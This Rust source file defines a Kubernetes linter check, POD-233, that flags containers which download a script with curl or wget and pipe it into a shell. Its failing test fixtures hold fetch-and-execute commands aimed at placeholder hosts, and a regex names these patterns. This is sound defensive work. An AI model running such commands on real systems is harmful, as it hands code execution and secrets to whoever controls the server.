//! `curl … | sh`.

use std::sync::LazyLock;

use catseye_model::PodView;
use regex::Regex;

use super::script::{entrypoint, hooks};
use crate::check::check;
use crate::context::Context;
use crate::findings::Findings;

check! {
    /// A container runs a script from the network as it starts
    ///
    /// What is piped from `curl` or `wget` into a shell is code that no image scan saw and no digest
    /// fixes. Whoever controls that server, its name or the way to it runs code in the pod at its next
    /// restart, with its token and its secrets. Intruders use the same line to fetch their tools.
    ///
    /// **Fix:** Put the script into the image at build time, with its checksum verified, and pin the
    /// image by digest.
    "POD-233" {
        severity: High,
        rows: ["A33"],
        fails: [
            r"
apiVersion: v1
kind: Pod
metadata: {name: a}
spec:
  initContainers:
  - {name: setup, image: i, command: [sh, -c, 'curl -fsSL https://get.example.com/install | sudo bash -s']}
  containers:
  - {name: app, image: i}
",
            r#"
apiVersion: v1
kind: Pod
metadata: {name: a}
spec:
  containers:
  - {name: app, image: i, command: [bash], args: ['-c', 'eval "$(wget -qO- http://203.0.113.7/x)"']}
"#,
        ],
        passes: [
            r"
apiVersion: v1
kind: Pod
metadata: {name: a}
spec:
  containers:
  - name: app
    image: i
    command: [sh, -c, 'curl -s http://localhost/health | grep ok && sh /app/run.sh']
    livenessProbe: {exec: {command: [sh, -c, 'wget -qO- localhost:8080/metrics | jq .shell']}}
",
            r#"
apiVersion: v1
kind: Pod
metadata: {name: own-address}
spec:
  containers:
  - {name: app, image: i, command: [sh, -c, 'IP="$(curl -s ifconfig.example.com)"; exec /app --ip "$IP"']}
"#,
        ],
        run: Pods(run),
    }
}

/// A download piped into an interpreter, or handed to one by command or process substitution.
static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?x)
        \b(curl|wget)\b [^|;&\n]* \| \s* (sudo\s+(-\S+\s+)*)? (/[\w/]*/)?
            ((ba|da|z|k|a)?sh|python[\d.]*|perl|node|ruby) (\s|$|["';)])
        | (\b(ba|da|z|k|a)?sh \s+ (-\w+\s+)* | \beval \s+ | \bsource \s+)
            ["']? (\$\(|<\(|`) \s* (curl|wget)\b
        "#,
    )
    .expect("the pattern is valid")
});

fn run(pod: &PodView<'_>, _: &Context<'_>, found: &mut Findings) {
    for container in &pod.containers {
        for word in entrypoint(container).chain(hooks(container)) {
            let downloads = word.text.contains("curl") || word.text.contains("wget");
            if downloads && DOWNLOAD.is_match(word.text) {
                found.in_container_at(
                    container,
                    word.path(container),
                    "runs a script that it downloads",
                );
            }
        }
    }
}
